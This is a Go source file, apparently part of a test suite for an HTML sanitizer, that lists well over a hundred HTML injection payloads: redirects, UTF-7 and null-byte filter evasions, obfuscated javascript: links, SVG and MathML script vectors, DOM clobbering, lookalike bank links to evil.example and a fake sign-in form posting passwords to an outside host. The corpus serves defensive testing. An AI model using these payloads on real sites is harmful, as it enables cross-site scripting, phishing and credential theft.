package markuptest

// written are attacks that fit no scheme: those that lead away, ask for secrets, take names that scripts rely on, or pass for the house.
func written() []Attack {
	return list("written", `
<meta http-equiv="refresh" content="0;url={load}">
<meta http-equiv="refresh" content="0; URL='{load}'">
<META HTTP-EQUIV=REFRESH CONTENT=0;URL={load}>
<meta http-equiv="Link" content="<{load}>; rel=stylesheet">
<meta http-equiv="Set-Cookie" content="remit=stolen">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<meta name=referrer content=unsafe-url><img src="{load}">
<meta charset=utf-7>+ADw-img src=x onerror=+AHs-run+AH0-+AD4-
<meta http-equiv=content-type content="text/html; charset=utf-7"><p>x</p>
<base href="http://{host}/"><img src="x.png"><a href="y">y</a>
<base target=_top><a href="{load}">x</a>
<link rel=preconnect href="http://{host}">
<link rel=dns-prefetch href="//{host}">
<link rel=prerender href="{load}">
<link rel=icon href="{load}">
<link rel=manifest href="{load}">
<link rel=import href="{load}">
<link rel=preload as=image href="{load}">
<link rel=preload as=image imagesrcset="{load} 1x">
<link rel=preload as=font crossorigin href="{load}">
<link rel=pingback href="{load}">
<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{load}"]}]}</script>
<script type=importmap>{"imports":{"x":"{load}"}}</script>
<iframe src="{load}"></iframe>
<iframe src="{own}"></iframe>
<iframe srcdoc="<img src='{load}'>"></iframe>
<iframe srcdoc="<meta http-equiv=refresh content='0;url={load}'>"></iframe>
<iframe sandbox="allow-scripts allow-top-navigation" srcdoc="<script>top.location='{load}'</script>"></iframe>
<iframe name="mail-1" src="{load}"></iframe>
<object data="{load}"></object>
<object type="text/html" data="{own}"></object>
<object><param name=src value="{load}"><img src="{load}"></object>
<object classid="clsid:x" codebase="{load}"></object>
<embed src="{load}" type="application/pdf">
<embed src="{own}" type="text/html">
<video src="{load}" autoplay></video>
<video poster="{load}"></video>
<video><source src="{load}"></video>
<video><track default kind=captions src="{load}"></video>
<audio src="{load}" autoplay></audio>
<audio><source src="{load}"></audio>
<picture><source srcset="{load}"><img alt=x></picture>
<picture><source srcset="{load} 2x" media="all"><img src="cid:x"></picture>
<img srcset="{load}">
<img srcset=",,,{load} 100w" sizes=100vw>
<img src=cid:x srcset="{load} 1x">
<img src="{load}" loading=eager>
<img src="{load}" width=1 height=1>
<img src="\t{load}">
<img src="\n{load}\n">
<img src="HTTP://{host}">
<img src="http:{host}">
<img src="http:///{host}">
<img src="http://user@{host}">
<img src="{own}">
<img src="../..{own}">
<img src="?images=1">
<img src="/sign-out">
<img usemap="#m" src="cid:x"><map name=m><area href="javascript:{run}" coords="0,0,99,99"></map>
<img ismap src="{load}">
<input type=image src="{load}">
<input type=hidden name=csrf value=x>
<body background="{load}">
<table background="{load}"><tr background="{load}"><td background="{load}">x</td></tr></table>
<svg><image href="{load}" width=9 height=9 /></svg>
<svg><image xlink:href="{load}" width=9 height=9 /></svg>
<svg><use href="{load}#x" /></svg>
<svg><use xlink:href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48L3N2Zz4=#x" /></svg>
<svg><feImage href="{load}" /></svg>
<svg><filter id=f><feImage xlink:href="{load}"/></filter><rect filter="url(#f)" width=9 height=9 /></svg>
<svg><rect fill="url({load}#x)" width=9 height=9 /></svg>
<svg><rect style="fill:url({load}#x)" width=9 height=9 /></svg>
<svg><text font-family=x style="font-family:url({load})">x</text></svg>
<svg><a href="javascript:{run}"><rect width=999 height=999 /></a></svg>
<svg><a><animate attributeName=href values="javascript:{run}" /><text y=20>x</text></a></svg>
<svg><set attributeName=onmouseover to="{run}" /></svg>
<svg><animate xlink:href=#x attributeName=href from="javascript:{run}" to=x /></svg>
<svg><handler type="text/javascript" ev:event="load">{run}</handler></svg>
<svg><foreignObject><iframe src="{load}"></iframe></foreignObject></svg>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:h="http://www.w3.org/1999/xhtml"><h:script>{run}</h:script></svg>
<svg><discard onbegin={run} /></svg>
<math><maction actiontype="statusline#http://x.example" xlink:href="javascript:{run}">x</maction></math>
<math href="javascript:{run}">x</math>
<math><mi xlink:href="javascript:{run}">x</mi></math>
<math><semantics><annotation-xml encoding="application/xhtml+xml"><img src=x onerror={run}></annotation-xml></semantics></math>
<form action="{load}" method=post><input name=password type=password><button autofocus>Sign in</button></form>
<form action="{own}"><input type=submit></form>
<form id=f action="{load}"></form><button form=f>x</button><input form=f name=x>
<button type=submit formaction="{load}" formtarget=_top>x</button>
<input type=image formaction="{load}" src=x>
<isindex action="{load}" prompt=x>
<textarea name=x form=f autofocus></textarea>
<select name=x onchange={run}><option>1</select>
<fieldset><legend>Sign in</legend><input type=password></fieldset>
<output name=x onclick={run}>x</output>
<a href="{load}" target=_top>x</a>
<a href="{load}" target=_parent>x</a>
<a href="{load}" target=mail-1>x</a>
<a href="{load}" ping="{load}">x</a>
<a href="{load}" download>x</a>
<a href="{load}" rel=opener target=_blank>x</a>
<a href="#x" onclick="{run}">x</a>
<a href="https://evil.example/">https://bank.example/</a>
<a href="https://evil.example/">www.bank.example</a>
<a href="https://www.bank.example.evil.example/">www.bank.example</a>
<a href="https://bank.example@evil.example/">bank.example</a>
<a href="https://bank.example\\@evil.example/">x</a>
<a href="javascript:{run}" href="https://ok.example">x</a>
<a href="https://ok.example" href="javascript:{run}">x</a>
<a href='https://ok.example"onclick="{run}'>x</a>
<a href="mailto:x@y.example?body=&quot;><img src=x onerror={run}>">x</a>
<a href="tel:&quot;onclick=&quot;{run}">x</a>
<a href="sms:1">x</a><a href="intent://x#Intent;end">x</a><a href="ms-word:ofe|u|{load}">x</a><a href="steam://run">x</a>
<a href="x" accesskey=x contenteditable tabindex=1 draggable=true>x</a>
<img name=body src=cid:x><img name=cookie src=cid:x><form name=createElement></form>
<a id=remit name=defaultView href="x:y">x</a><a id=remit name=x>x</a>
<form id=attributes><input name=attributes><input name=innerHTML></form>
<p class="btn menu dialog note bad toast" id=toasts>x</p>
<div class="scripted" data-confirm=x data-dialog=x data-hide data-submit hx-get="{own}" hx-trigger=load>x</div>
<div hx-on:load="{run}" hx-get="{load}" data-hx-get="{load}" hx-trigger=load>x</div>
<p slot=x part=x is=x-y itemprop=x aria-label=x role=button popover popovertarget=x>x</p>
<button popovertarget=p>x</button><div popover id=p>x</div>
<button commandfor=p command=show-modal>x</button>
<dialog open>Your session ended. Sign in again.</dialog>
<p style="content:'x';quotes:'a'">x</p>
<p lang="en&quot; onclick=&quot;{run}" dir='ltr" onclick="{run}'>x</p>
<font color="red;position:fixed" face="x;background:url({load})" size="999999">x</font>
<font face="x'};*{position:fixed">x</font>
<table width="99999999" height="1e9" border=99999 cellpadding=99999><tr><td width=-99999 hspace=-50>x</td></tr></table>
<img src="cid:x" width="9e9" height="-5" hspace="-999" vspace=-999 border=9999999>
<hr size=99999999 width=9999%>
<ol start="99999999999999999999" type="<img onerror={run}>"><li value="x{run}">x</ol>
<td nowrap colspan=99999999 rowspan=99999999>x</td>
<p hidden>x</p><p inert>x</p><p autocapitalize=on enterkeyhint=go inputmode=url>x</p>
<bdo dir=rtl>moc.elpmaxe</bdo><p>\u202Egnp.exe\u202C</p>
<cite onclick={run}>x</cite><q cite="javascript:{run}">x</q><del cite="javascript:{run}">x</del><ins cite="data:text/html,x" datetime="{run}">x</ins>
<blockquote cite="data:text/html,<script>{run}</script>">x</blockquote>
<layer src="{load}"></layer><ilayer src="{load}"></ilayer>
<xml src="{load}"></xml><?import namespace=x implementation="{load}"?>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">{run}</x:script>
<html xmlns:xss><?import namespace="xss" implementation="{load}"><xss:xss>x</xss:xss>
<noscript><link rel=stylesheet href="{load}"></noscript>
<noscript><meta http-equiv=refresh content="0;url={load}"></noscript>
<v:imagedata src="{load}" xmlns:v="urn:schemas-microsoft-com:vml"/>
<v:rect style="behavior:url(#default#VML)"><v:fill src="{load}"/></v:rect>
<img src=x onerror=\x00{run}>
<\x00script>{run}</script>
<scr\x00ipt>{run}</scr\x00ipt>
<img src=x \x00onerror={run}>
<img src=x on\x00error={run}>
<ımg src=x onerror={run}>
<ſcript>{run}</ſcript>
<ſvg onload={run}>
<\u212Aeygen autofocus onfocus={run}>
\u00bcscript\u00be{run}\u00bc/script\u00be
<a href="&#14;javascript:{run}">x</a>
<a href="java&#0;script:{run}">x</a>
<a href="jav&#x0A;ascript:{run}">x</a>
<a href="&#1;javascript:{run}">x</a>
<a href="javascript&#x3A;{run}">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A{run}">x</a>
<a href="javascript\u3000:{run}">x</a>
<a href="\u2029javascript:{run}">x</a>
<a href="JAVASCRIPT&COLON;{run}">x</a>
<a href=javascript:{run}>x</a>
<a href\x0c=\x0cjavascript:{run}>x</a>`)
}
